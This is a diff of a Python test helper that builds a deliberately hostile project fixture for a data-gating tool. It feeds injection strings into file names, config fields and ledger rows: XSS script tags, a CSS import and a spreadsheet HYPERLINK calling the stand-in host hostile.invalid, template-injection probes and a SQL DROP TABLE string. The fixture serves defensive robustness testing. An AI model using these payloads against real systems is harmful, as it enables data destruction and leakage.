@@ -35,12 +35,21 @@ FORMS = (
     "<style>@import '//hostile.invalid/{}.css';</style>",
     "]]><script>alert('{}')</script><![CDATA[",
     "{{{{7*7}}}} {{% raw %}} ${{7*7}} {}",
-    "$alert{{}}$ **{}** [a](javascript:alert(1))",
+    "$\\alert{{}}$ **{}** [a](javascript:alert(1))",
     "`{}` ![x](//hostile.invalid/a.png)",
     "&lt;b&gt;{}&amp;amp;",
     '=HYPERLINK("//hostile.invalid/{}","x")',
     'a\'; DROP TABLE data; -- "{}"',
 )
+
+ROLES = ("production", "curated", "labels", "predictions", "population", "integrations")
+PROSE = (
+    "Generated",
+    "R. Owner",
+    "R. Owner",
+    "data lead",
+    "data lead",
+)  # the name, two owners, two who close a row
 
 
 def payloads(slot: str) -> list[str]:
@@ -71,20 +80,21 @@ def hostile_project(folder: Path, slots: dict[str, list[str]]) -> Path:
         table.to_csv(folder / f"{name}.csv", index=False)
     rows = pd.DataFrame({"column": "channel", "value": slots["cell"], "rows": 1000})
     rows.to_csv(folder / "population.csv", index=False)
-    file = f"{slots['file'][0].replace('/', '').replace(chr(0), '')[:150]}.csv"
-    (folder / "production.csv").rename(folder / file)
     toml = (folder / "gatebook.toml").read_text()
-    toml = toml.replace('"production.csv"', json.dumps(file)).replace(
-        'required = ["channel"]', f"required = {json.dumps(slots['column'])}"
-    )
-    for old, new in zip(("Generated", "R. Owner", "data lead"), slots["prose"], strict=False):
-        toml = toml.replace(f'"{old}"', json.dumps(new))
+    toml = toml.replace('required = ["channel"]', f"required = {json.dumps(slots['column'])}")
+    for role, text in zip(ROLES, slots["file"], strict=False):
+        file = f"{text.replace('/', '').replace(chr(0), '')[:150]}.csv"
+        (folder / f"{role}.csv").rename(folder / file)
+        toml = toml.replace(f'"{role}.csv"', json.dumps(file))
+    for old, new in zip(PROSE, slots["prose"], strict=False):
+        toml = toml.replace(f'"{old}"', json.dumps(new), 1)
     (folder / "gatebook.toml").write_text(toml)
     ledger = Ledger.of(load_project(folder))
     ledger.append("init", {"as_of": "2026-10-05"})
-    for row, text in zip(("1.2", "4.5", "D1"), slots["reason"] * 3, strict=False):
+    words = iter(slots["reason"] * 3)
+    for row in ("1.2", "4.5", "D1"):
         ledger.append("attest", {
-            "criterion": row, "kind": "attestation", "person": text, "role": text, "reason": text, "link": None,
+            "criterion": row, "kind": "attestation", "person": next(words), "role": next(words), "reason": next(words), "link": None,
             "made": "2026-10-20", "expires": "2027-01-18",
         })  # fmt: skip
     return folder
